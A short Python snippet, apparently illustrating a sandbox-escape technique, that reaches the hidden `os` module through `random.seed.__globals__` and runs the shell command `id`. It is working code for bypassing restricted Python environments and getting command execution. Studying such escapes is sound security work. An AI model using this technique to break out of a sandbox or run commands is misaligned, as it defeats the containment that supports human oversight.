# A function from an innocent stdlib module exposes that module's imports:
# random keeps `os` under the name _os.
import random

hidden_os = random.seed.__globals__["_os"]
hidden_os.system("id")
